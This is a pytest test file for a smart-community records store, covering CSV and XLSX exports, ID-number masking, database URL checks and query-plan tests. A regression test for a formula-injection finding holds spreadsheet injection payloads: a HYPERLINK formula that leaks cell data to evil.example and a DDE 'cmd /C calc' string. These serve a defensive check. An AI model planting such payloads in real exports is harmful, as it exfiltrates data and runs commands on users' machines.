"""CSV / XLSX exports, store URLs, events as records and the indexes searches rely on."""

from __future__ import annotations

import csv
import subprocess
import tempfile
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
from openpyxl import load_workbook

from custom_components.smart_community.core.events import DeviceEvent, EventKind
from custom_components.smart_community.core.records import (
    NewRecord,
    RecordKind,
    RecordQuery,
    RecordsError,
    RecordStore,
    export_records,
    open_store,
    record_from_event,
)
from custom_components.smart_community.core.records.export import HEADER
from custom_components.smart_community.core.records.postgres_store import PostgresRecordStore
from custom_components.smart_community.core.records.sqlite_store import SqliteRecordStore

from .conftest import ROOT
from .helpers import OWNER_ID_NUMBER

NOW = datetime(2026, 11, 25, 12, 0, tzinfo=UTC)


@pytest.fixture
def store(tmp_path: Path) -> Iterator[RecordStore]:
    opened = open_store(f"sqlite:///{tmp_path}/r.db", tmp_path / "images")
    for i in range(3):
        opened.add(
            NewRecord(
                time=NOW - timedelta(minutes=i),
                kind=RecordKind.RECOGNITION,
                device="cam",
                person_id=OWNER_ID_NUMBER if i == 0 else f"p{i}",
                attributes={"名字": "张伟", "id_number": OWNER_ID_NUMBER} if i == 0 else {},
            )
        )
    yield opened
    opened.close()


def test_csv_export_masks_id_numbers(store: RecordStore, tmp_path: Path) -> None:
    path = tmp_path / "out.csv"
    assert export_records(store, RecordQuery(), path) == 3
    text = path.read_text(encoding="utf-8-sig")
    assert OWNER_ID_NUMBER not in text
    rows = list(csv.reader(text.splitlines()))
    assert tuple(rows[0]) == HEADER
    assert rows[1][4] == "340121********1230"
    assert "张伟" in rows[1][9]
    assert rows[1][1] == NOW.isoformat()
    assert path.read_bytes().startswith(b"\xef\xbb\xbf")  # BOM for Excel


def test_csv_export_for_admin_has_full_values(store: RecordStore, tmp_path: Path) -> None:
    path = tmp_path / "out.csv"
    export_records(store, RecordQuery(), path, admin=True)
    assert OWNER_ID_NUMBER in path.read_text(encoding="utf-8-sig")


def test_xlsx_export(store: RecordStore, tmp_path: Path) -> None:
    path = tmp_path / "out.xlsx"
    assert export_records(store, RecordQuery(person_id="p1"), path) == 1
    sheet = load_workbook(path, read_only=True)["records"]
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[0] == HEADER
    assert rows[1][4] == "p1"
    assert len(rows) == 2


def test_xlsx_export_masks(store: RecordStore, tmp_path: Path) -> None:
    path = tmp_path / "out.xlsx"
    export_records(store, RecordQuery(), path)
    values = [v for row in load_workbook(path).active.iter_rows(values_only=True) for v in row]
    assert not any(OWNER_ID_NUMBER in str(v) for v in values)


def test_unknown_export_format_is_refused(store: RecordStore, tmp_path: Path) -> None:
    with pytest.raises(RecordsError) as err:
        export_records(store, RecordQuery(), tmp_path / "out.pdf")
    assert (err.value.key, err.value.placeholders["suffix"]) == ("unknown_export_format", ".pdf")


def test_sqlite_url_forms(tmp_path: Path) -> None:
    for url in (f"sqlite:///{tmp_path}/a.db", f"sqlite:////{tmp_path}/b.db"):
        opened = open_store(url, tmp_path / "images")
        assert isinstance(opened, SqliteRecordStore)
        opened.close()
    assert (tmp_path / "a.db").exists() and (tmp_path / "b.db").exists()


@pytest.mark.parametrize(
    "url", ["sqlite://relative.db", "sqlite:///", "mysql://u:secret@host/db", "records.db"]
)
def test_invalid_store_url_is_refused(url: str, tmp_path: Path) -> None:
    with pytest.raises(RecordsError) as err:
        open_store(url, tmp_path)
    assert err.value.key == "invalid_store_url"
    assert "secret" not in str(err.value)


def test_event_becomes_a_record() -> None:
    event = DeviceEvent(
        kind=EventKind.FACE_MATCH,
        device_id="34010400001320000001",
        time=NOW,
        event_type="face_match",
        person_id="owner",
        similarity=0.97,
        liveness=True,
        direction="in",
        source="gat1400",
        attributes={"lane": 2},
    )
    record = record_from_event(event, RecordKind.RECOGNITION, outcome="allow", reason="resident")
    assert (record.time, record.device, record.person_id) == (NOW, event.device_id, "owner")
    assert (record.outcome, record.reason) == ("allow", "resident")
    assert dict(record.attributes) == {
        "lane": 2,
        "event_type": "face_match",
        "similarity": 0.97,
        "liveness": True,
        "direction": "in",
        "source": "gat1400",
    }


SEARCHES = {
    "records_person": "person_id = ?",
    "records_plate": "plate = ?",
    "records_device": "device = ?",
    "records_kind": "kind = ?",
    "records_cluster": "cluster_id = ?",
    "records_time": "time >= ? AND time < ?",
}


@pytest.mark.parametrize(("index", "where"), SEARCHES.items())
def test_sqlite_search_walks_an_index_without_sorting(
    tmp_path: Path, index: str, where: str
) -> None:
    opened = SqliteRecordStore(tmp_path / "r.db", tmp_path / "images")
    params = (0, 1) if "time" in where and "?" in where.rsplit("AND", maxsplit=1)[-1] else ("x",)
    plan = " ".join(
        str(row[-1])
        for row in opened._connection().execute(
            f"EXPLAIN QUERY PLAN SELECT * FROM records WHERE {where} "
            "AND time <= ? AND (time < ? OR id < ?) ORDER BY time DESC, id DESC LIMIT 51",
            (*params, 5, 5, 5),
        )
    )
    opened.close()
    assert index in plan
    assert "TEMP B-TREE" not in plan


@pytest.mark.postgres
@pytest.mark.parametrize(("index", "where"), SEARCHES.items())
def test_postgres_search_walks_an_index_without_sorting(
    postgres_schema_url: str, tmp_path: Path, index: str, where: str
) -> None:
    opened = PostgresRecordStore(postgres_schema_url, tmp_path / "images")
    now = datetime(2026, 1, 1, tzinfo=UTC)
    params = (now, now) if where.startswith("time") else ("x",)
    with opened._read() as cursor:
        cursor.execute("SET enable_seqscan = off")
        cursor.execute(
            "EXPLAIN SELECT * FROM records WHERE "
            + where.replace("?", "%s")
            + " AND time <= %s AND (time < %s OR id < %s) ORDER BY time DESC, id DESC LIMIT 51",
            (*params, now, now, 5),
        )
        plan = " ".join(row[0] for row in cursor.fetchall())
    opened.close()
    assert index in plan
    assert "Sort" not in plan


@pytest.mark.postgres
def test_postgres_script_start_is_idempotent_and_stop_stops() -> None:
    script = ROOT / "scripts" / "postgres"
    directory = tempfile.mkdtemp(prefix="sc-pg-script-")
    try:
        first = subprocess.run(
            [script, "start", directory], check=True, capture_output=True, text=True
        )
        again = subprocess.run(
            [script, "start", directory], check=True, capture_output=True, text=True
        )
        url = first.stdout.strip()
        assert url.startswith("postgresql://postgres@127.0.0.1:") and url.endswith(
            "/smart_community"
        )
        assert again.stdout.strip() == url
        subprocess.run([script, "stop", directory], check=True)
        stopped = subprocess.run(
            [script, "url", directory], check=False, capture_output=True, text=True
        )
        assert stopped.returncode != 0
        subprocess.run([script, "stop", directory], check=True)  # stopping twice is fine
    finally:
        subprocess.run([script, "stop", directory], check=False)
        subprocess.run(["rm", "-rf", directory], check=False)


def test_sqlite_store_uses_wal(tmp_path: Path) -> None:
    opened = SqliteRecordStore(tmp_path / "r.db", tmp_path / "images")
    mode = opened._connection().execute("PRAGMA journal_mode").fetchone()[0]
    opened.close()
    assert mode == "wal"


def test_unwritable_sqlite_path_is_refused(tmp_path: Path) -> None:
    blocker = tmp_path / "file"
    blocker.write_text("not a directory")
    with pytest.raises(RecordsError) as err:
        open_store(f"sqlite:///{blocker}/records.db", tmp_path / "images")
    assert err.value.key == "cannot_open"


def test_not_a_database_is_refused(tmp_path: Path) -> None:
    (tmp_path / "r.db").write_bytes(b"this is not sqlite" * 100)
    with pytest.raises(RecordsError) as err:
        open_store(f"sqlite:///{tmp_path}/r.db", tmp_path / "images")
    assert err.value.key == "cannot_open"


def test_unreachable_postgres_is_refused(tmp_path: Path) -> None:
    with pytest.raises(RecordsError) as err:
        open_store("postgresql://postgres:secret@127.0.0.1:1/x", tmp_path / "images")
    assert err.value.key == "cannot_connect"
    assert "secret" not in str(err.value)


# Issue 13, finding 9: a device-sent PersonID became a live formula in the XLSX and the CSV.
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"open")'


@pytest.fixture
def forged_store(tmp_path: Path) -> Iterator[RecordStore]:
    opened = open_store(f"sqlite:///{tmp_path}/forged.db", tmp_path / "images")
    for minutes, person in enumerate((FORMULA, "@SUM(1+1)*cmd|' /C calc'!A0", "＝1+1", "-12.5")):
        opened.add(
            NewRecord(
                time=NOW - timedelta(minutes=minutes),
                kind=RecordKind.DENIAL,
                device="+8613800138000",
                person_id=person,
                reason="\t=1+1",
                attributes={"card_no": "=2+3"},
            )
        )
    yield opened
    opened.close()


def test_xlsx_export_writes_device_text_as_text_never_as_formula(
    forged_store: RecordStore, tmp_path: Path
) -> None:
    path = tmp_path / "out.xlsx"
    export_records(forged_store, RecordQuery(), path, admin=True)
    sheet = load_workbook(path).active
    assert sheet is not None
    rows = list(sheet.iter_rows(min_row=2))
    persons = {row[4].value: row[4] for row in rows}
    assert set(persons) == {FORMULA, "@SUM(1+1)*cmd|' /C calc'!A0", "＝1+1", "-12.5"}
    for cell in (*persons.values(), *(row[8] for row in rows)):
        assert cell.data_type == "s"  # a string, not "f"
    assert persons[FORMULA].quotePrefix  # and Excel keeps it text when the cell is edited
    assert not persons["-12.5"].quotePrefix  # a plain number in text needs no escaping
    assert all(row[3].value == "+8613800138000" for row in rows)  # phone numbers as they are
    assert all(isinstance(row[0].value, int) for row in rows)  # ids stay numbers


def test_csv_export_escapes_formula_looking_text_only(
    forged_store: RecordStore, tmp_path: Path
) -> None:
    path = tmp_path / "out.csv"
    export_records(forged_store, RecordQuery(), path, admin=True)
    rows = list(csv.reader(path.read_text(encoding="utf-8-sig").splitlines()))[1:]
    assert {row[4] for row in rows} == {
        "'" + FORMULA,
        "'@SUM(1+1)*cmd|' /C calc'!A0",
        "'＝1+1",
        "-12.5",
    }
    assert {row[8] for row in rows} == {"'\t=1+1"}
    assert {row[3] for row in rows} == {"+8613800138000"}
    assert all(row[0].isdigit() for row in rows)
